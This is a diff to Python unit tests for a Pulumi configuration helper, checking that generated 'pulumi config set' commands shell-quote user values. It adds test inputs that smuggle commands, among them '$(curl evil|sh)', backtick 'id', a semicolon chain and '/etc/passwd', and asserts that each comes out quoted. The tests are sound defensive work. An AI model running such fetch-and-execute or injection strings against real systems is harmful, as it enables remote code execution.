@@ -26,6 +26,7 @@ from settings.problems import Problem, render
 from settings.reader import remove_command, set_command
 from tests import bad_settings
 from tests.bad_settings import ROOT, Bad
+from user_errors import shell_word
 
 pytestmark = pytest.mark.unit
 
@@ -119,7 +120,9 @@ def test_a_command_quotes_what_the_shell_would_read() -> None:
     begin = f"pulumi config set {NAMESPACE}:railwayServiceName"
     for value, shown in {
         "backend": "backend", "my backend": "'my backend'", "$HOME": "'$HOME'", "it's": "'it'\"'\"'s'",
-        "<your own name>": "<your own name>", "": "",
+        "<your own name>": "<your own name>", "<https://a.example>": "<https://a.example>", "": "",
+        "<$(curl evil|sh)>": "'<$(curl evil|sh)>'", "<`id`>": "'<`id`>'", "<a>;<b>": "'<a>;<b>'",
+        "<a\nb>": "'<a\nb>'", "<it's>": "'<it'\"'\"'s>'", "</etc/passwd>": "'</etc/passwd>'",
     }.items():  # fmt: skip
         assert set_command("railwayServiceName", value) == f"{begin} {shown}".rstrip()
     assert set_command("region", "a", ".it's") == (
@@ -128,18 +131,31 @@ def test_a_command_quotes_what_the_shell_would_read() -> None:
     assert remove_command("my region") == f"pulumi config rm '{NAMESPACE}:my region'"
 
 
+def test_no_placeholder_of_a_key_is_quoted() -> None:
+    examples = [str(key.example) for key in KEYS.values() if str(key.example).startswith("<")]
+    assert len(examples) > 3
+    assert [shell_word(text) for text in examples] == examples
+
+
 def test_a_placeholder_says_what_is_expected(stack: Stack) -> None:
-    values = {"region": "your-functions-region", "customDomain": "your-domain"}
+    values = {
+        "region": "your-functions-region",
+        "customDomain": "your-domain",
+        "railwayWorkspaceId": "00000000-0000-4000-8000-000000000000",
+    }
     _, problems = load_settings(
         stack({f"{NAMESPACE}:{name}": value for name, value in values.items()}, []),
         "prod",
         bad_settings.ENVIRON,
     )
-    region, domain = (next(one for one in problems if one.key.endswith(f":{name}")) for name in values)
+    region, domain, workspace = (
+        next(one for one in problems if one.key.endswith(f":{name}")) for name in values
+    )
+    assert "is a placeholder" in workspace.what
     assert region.what.endswith(f"is a placeholder. {KEYS['region'].summary}")
     assert KEYS["region"].summary in f"{KEYS['region'].description} "
     assert region.fix == f"pulumi config set {NAMESPACE}:region <your own value>"
-    assert domain.fix.endswith(f"  (or pulumi config rm {NAMESPACE}:customDomain)")
+    assert domain.fix.endswith(f"\nor:  pulumi config rm {NAMESPACE}:customDomain")
 
 
 def test_every_placeholder_of_the_production_file_is_refused_by_name(stack: Stack) -> None:
@@ -336,4 +352,4 @@ def test_protecting_nothing_and_removing_the_rules_are_warnings_with_a_fix(stack
     assert "neverDelete: is empty: no collection is protected" in empty
     assert "fix: pulumi config rm whatsapp-crm:neverDelete" in empty
     assert "allowRulesRemoval: is true" in removal
-    assert "fix: pulumi config rm whatsapp-crm:allowRulesRemoval  (after this `pulumi up`)" in removal
+    assert "fix: pulumi config rm whatsapp-crm:allowRulesRemoval  # after this pulumi up" in removal
